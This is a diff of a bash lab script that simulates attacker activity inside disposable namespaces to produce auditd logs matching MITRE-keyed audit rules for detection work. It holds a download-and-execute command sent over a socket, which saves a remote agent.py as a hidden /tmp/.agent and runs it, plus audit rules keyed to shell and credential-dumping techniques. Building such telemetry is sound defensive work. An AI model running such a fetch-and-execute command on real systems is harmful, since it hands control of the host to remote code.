@@ -1,7 +1,7 @@
 #!/bin/bash
 # Records catalogue.log: each built-in rule is met by something in it. Run as root on a Debian 12 machine of your own, with
 # the packages auditd, iproute2, zstd, curl, busybox, nodejs, perl, nftables; the result is /opt/lab/out/catalogue.log.
-# Everything happens in namespaces for mounts and network and on overlays that vanish with them: the machine's files stay.
+# Everything happens in namespaces for mounts and network, on copies in memory that vanish with them: the machine's files stay.
 set -u
 LAB=/opt/lab LOG=/opt/lab/log
 CLEAN_ENV="env -i PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin HOME=/root LANG=C.UTF-8 TERM=dumb"
@@ -9,13 +9,8 @@ CLEAN_ENV="env -i PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/
 # ---- inside
 if [ "${1:-}" = inside ]; then
   mount --make-rprivate /
-  mkdir -p $LAB/over && mount -t tmpfs none $LAB/over
-  for folder in etc var/log var/spool home root; do
-    upper=$LAB/over/${folder//\//-}
-    mkdir -p "$upper" "$upper.work"
-    mount -t overlay none -o "lowerdir=/$folder,upperdir=$upper,workdir=$upper.work" "/$folder"
-  done
-  for folder in tmp var/tmp dev/shm; do mount -t tmpfs none /$folder; done
+  mkdir $LAB/etc && mount -t tmpfs none $LAB/etc && cp -a /etc/. $LAB/etc/ && mount --bind $LAB/etc /etc
+  for folder in tmp var/tmp dev/shm var/log var/spool home root; do mount -t tmpfs none /$folder; done
   for folder in /usr/lib/python3/dist-packages /usr/local/lib/python3.*/dist-packages; do
     [ -d "$folder" ] && mount --bind $LAB/empty "$folder"
   done
@@ -40,7 +35,7 @@ with socket.create_connection(("10.20.0.41", 8080), source_address=("10.66.4.9",
     c.sendall(b"curl -s -o /tmp/.agent http://10.66.4.9/agent.py && chmod +x /tmp/.agent && /tmp/.agent\n")
 VISIT
   sleep 25
-  kill $(jobs -p)
+  kill $(jobs -p) 2>/dev/null
   exit
 fi
 
@@ -76,8 +71,8 @@ sleep 1
 OLD=$(auditctl -s | sed -n 's/^backlog_limit //p')
 auditctl -b 65536 >/dev/null; auditctl -e 1 >/dev/null
 # Three rules with keys as public rule sets have them; the first rule that matches gives the key.
-auditctl -a always,exit -F arch=b64 -F auid=4242 -F exe=/usr/bin/id -S execve -k T1033_System_Owner_User_Discovery
-auditctl -a always,exit -F arch=b64 -F auid=4242 -F dir=/etc/cron.d -F perm=wa -S openat -k susp_T1053.003
+auditctl -a always,exit -F arch=b64 -F auid=4242 -F exe=/usr/bin/bash -S connect -k T1059_004_unix_shell
+auditctl -a always,exit -F arch=b64 -F auid=4242 -F exe=/usr/bin/dd -S openat -k susp_T1003.007
 auditctl -a always,exit -F arch=b64 -F auid=4242 -F exe=/usr/bin/perl -S connect -k susp_activity
 calls=""
 for call in execve execveat open openat openat2 creat connect accept accept4 bind unlink unlinkat rename renameat renameat2 \
